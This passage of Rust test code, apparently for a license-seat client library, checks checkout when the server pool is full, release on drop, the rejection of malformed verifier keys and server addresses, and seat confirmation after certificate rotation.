                    "pool": {"total": 1, "used": 1, "lingering": 0, "reserved_idle": 0, "free": 0, "over": 0, "queued": 1},
                    "gives_up_in_ms": 1200, "first_due_ms": 60000,
                }))
            });
        }
        let mut releases = releases.lock().unwrap();
        *releases += usize::from(ask.path.ends_with("/release"));
        (ask.path.ends_with("/release") && *releases == 1).then(|| Reply::Raw(Vec::new()))
    });
    let client = Client::builder().servers(double.name()).verifier_keys(world.keys()).remember_in(None).build().unwrap();
    let error = client.checkout("cad").wait(Duration::from_millis(1_200)).take().unwrap_err();
    assert!(error.may_help_later(), "{error}");
    drop(client);
    assert_eq!(world.seats.lock().unwrap().released.len(), 1, "{:?}", double.paths());
}

#[test]
fn a_key_or_a_server_that_cannot_be_read_is_told_with_the_reason() {
    let world = World::new();
    let built = |keys: &str, servers: &str| Client::builder().servers(servers).verifier_keys(keys).build().unwrap_err();
    assert_eq!(built("acme.example+0+x", "1588@a").kind(), ErrorKind::VerifierKey);
    assert_eq!(built("", "1588@a").kind(), ErrorKind::VerifierKey);
    assert_eq!(built(&world.keys(), "1588@a b@c").kind(), ErrorKind::Invalid);
    let both = format!("{0},{0}", world.keys());
    assert!(built(&both, "1588@a").explanation().contains("twice"));
}

#[test]
fn whoever_asks_whether_a_seat_holds_is_answered_by_a_server_that_came_back_with_another_certificate() {
    let world = World::new();
    let double = Double::honest(&world);
    let client = client(&world, double.name()).build().unwrap();
    let seat = client.checkout("cad").take().unwrap();
    // A connection that was lost was lost by everybody, so that each waits for up to 5 s before the next one; not while somebody waits for the answer.
    for _ in 0..6 {
        double.rotate(&identity());
        double.end_all();
        assert!(seat.confirm(Duration::from_secs(2)));
    }
}
